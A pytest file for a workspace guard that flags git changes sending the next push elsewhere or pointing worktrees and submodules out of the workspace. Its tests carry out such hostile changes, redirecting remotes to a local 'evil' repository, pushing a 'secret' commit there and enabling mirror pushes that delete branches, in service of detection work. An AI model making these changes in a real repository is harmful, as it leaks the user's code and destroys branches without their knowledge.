"""Where the next `git push` goes, and which checkouts git knows: a change is a finding, what is new is ordinary."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.guard.trees import Act, checkout, config, git, left_by, said, write

CONFIG = (1, ".git/config")


@pytest.fixture
def evil(work: Path) -> Path:
    """The user's repository has a remote; beside it is the attacker's."""
    for name in ("hub", "evil"):
        git(work.parent, "clone", "-q", "--bare", str(work), name)
    git(work, "remote", "add", "origin", "../hub")
    git(work, "push", "-q", "-u", "origin", "main")
    return work.parent / "evil"


def old_remote(work: Path) -> None:
    """A remote of the same name, as git kept them before it had configurations."""
    git(work, "config", "--remove-section", "remote.origin")
    write(work / ".git" / "remotes" / "origin", "URL: ../evil\nPush: refs/heads/main\n")


def for_a_worktree(work: Path) -> None:
    git(work, "config", "extensions.worktreeConfig", "true")
    git(work, "config", "--worktree", "remote.origin.url", "../evil")


PUSHES: dict[str, tuple[str, Act]] = {
    "another address": (".git/config", lambda work: git(work, "remote", "set-url", "origin", "../evil")),
    "an address more": (".git/config", lambda work: git(work, "remote", "set-url", "--add", "origin", "../evil")),
    "an address for a push": (
        ".git/config",
        lambda work: git(work, "remote", "set-url", "--push", "origin", "../evil"),
    ),
    "another remote": (
        ".git/config",
        lambda work: [git(work, "remote", "add", "e", "../evil"), git(work, "config", "branch.main.remote", "e")],
    ),
    "another remote for a push": (".git/config", config('[branch "main"]\n\tpushRemote = ../evil\n')),
    "another remote for every push": (".git/config", config("[remote]\n\tpushDefault = ../evil\n")),
    "another address for another": (".git/config", config('[url "../evil"]\n\tinsteadOf = ../hub\n')),
    "an old remote": (".git/remotes/origin", old_remote),
    "a remote of a worktree": (".git/config.worktree", for_a_worktree),
}


@pytest.mark.parametrize("name", PUSHES)
def test_a_push_that_goes_elsewhere_is_reported(name: str, work: Path, evil: Path) -> None:
    path, act = PUSHES[name]
    assert (1, path) in said(left_by(work, act))
    write(work / "secret")
    git(work, "add", ".")
    git(work, "commit", "-qm", "secret")
    git(work, "push", "-q")
    assert "secret" in git(evil, "log", "--format=%s", "main")


def test_a_push_that_removes_branches_is_reported(work: Path, evil: Path) -> None:
    git(work, "push", "-q", "origin", "main:other")
    assert said(left_by(work, config('[remote "origin"]\n\tmirror = true\n'))) == [CONFIG]
    git(work, "push", "-q")
    assert "other" not in git(work.parent / "hub", "branch")


def test_the_text_says_what_it_means(work: Path, evil: Path) -> None:
    (found,) = left_by(work, lambda work: git(work, "remote", "set-url", "origin", "../evil")).findings
    assert (found.what, found.change) == ("remote.origin.url = ../evil", "changed")
    assert found.why == "the next `git push` and fetch go there, and went elsewhere before"


def new_branch(work: Path) -> None:
    git(work, "checkout", "-q", "-b", "topic", "--track", "origin/main")
    git(work, "push", "-q", "-u", "origin", "topic")
    git(work, "remote", "add", "fork", "../evil")
    git(work, "fetch", "-q", "--all")
    git(work, "push", "-q", "-u", "fork", "main:two")


def test_new_remotes_and_branches_are_ordinary(work: Path, evil: Path) -> None:
    assert said(left_by(work, lambda work: git(work, "push", "-q", "-u", "origin", "main"))) == []
    assert said(left_by(work, new_branch)) == [CONFIG]  # `main` is pushed to another remote from now on
    git(work, "config", "branch.main.remote", "origin")
    assert said(left_by(work, lambda work: git(work, "remote", "add", "more", "../x"))) == []


# --- linked worktrees and submodules ------------------------------------------------------------------


def test_another_place_of_a_linked_worktree_is_reported(work: Path) -> None:
    git(work, "worktree", "add", "-q", "--detach", "wt")
    place = ".git/worktrees/wt/gitdir"
    checkout(work / "lib")
    assert said(left_by(work, lambda work: write(work / place, f"{work}/lib/.git\n"))) == [(1, place)]
    assert str(work / "lib") in git(work, "worktree", "list")


def test_a_linked_worktree_that_leads_out_is_reported(work: Path) -> None:
    left = left_by(work, lambda work: git(work, "worktree", "add", "-q", "--detach", "../wt"))
    assert said(left) == [(1, ".git/worktrees/wt/gitdir")]


def test_a_linked_worktree_that_is_made_moved_in_the_workspace_and_removed(work: Path) -> None:
    assert said(left_by(work, lambda work: git(work, "worktree", "add", "-q", "--detach", "a"))) == []
    assert said(left_by(work, lambda work: git(work, "worktree", "remove", "a"))) == []


@pytest.mark.parametrize("nested", ["lib", "node_modules/lib"])
def test_where_a_nested_repository_is_led_is_reported(work: Path, nested: str) -> None:
    (work / nested).parent.mkdir(exist_ok=True)
    inner = checkout(work / nested)
    git(inner, "worktree", "add", "-q", "--detach", "wt")
    checkout(work.parent / "sub")
    git(inner, "-c", "protocol.file.allow=always", "submodule", "--quiet", "add", str(work.parent / "sub"), "sub")

    def act(work: Path) -> None:
        git(inner, "config", "core.worktree", "/home/ada")
        write(inner / ".git" / "commondir", "../../evil\n")
        write(inner / ".git" / "worktrees" / "wt" / "commondir", "../../../evil\n")
        write(inner / ".git" / "worktrees" / "wt" / "gitdir", "/home/ada/.git\n")
        write(inner / ".git" / "modules" / "sub" / "config", "[core]\n\tworktree = /home/ada\n")
        write(inner / "wt" / ".git", "gitdir: /tmp/evil\n")
        write(inner / "sub" / ".git", "gitdir: /tmp/evil\n")

    found = {path.removeprefix(f"{nested}/") for danger, path in said(left_by(work, act)) if danger == 1}
    assert found == {
        ".git/config", ".git/commondir", ".git/worktrees/wt/commondir", ".git/worktrees/wt/gitdir",
        ".git/modules/sub/config", "wt/.git", "sub/.git",
    }  # fmt: skip


def test_a_git_file_longer_than_is_read_is_reported(work: Path) -> None:
    checkout(work.parent / "lib")
    git(work, "-c", "protocol.file.allow=always", "submodule", "--quiet", "add", "../lib", "sub")
    left = left_by(work, lambda work: write(work / "sub" / ".git", f"gitdir: ../.git/modules/sub/{'./' * 2100}\n"))
    assert said(left) == [(1, "sub/.git")]
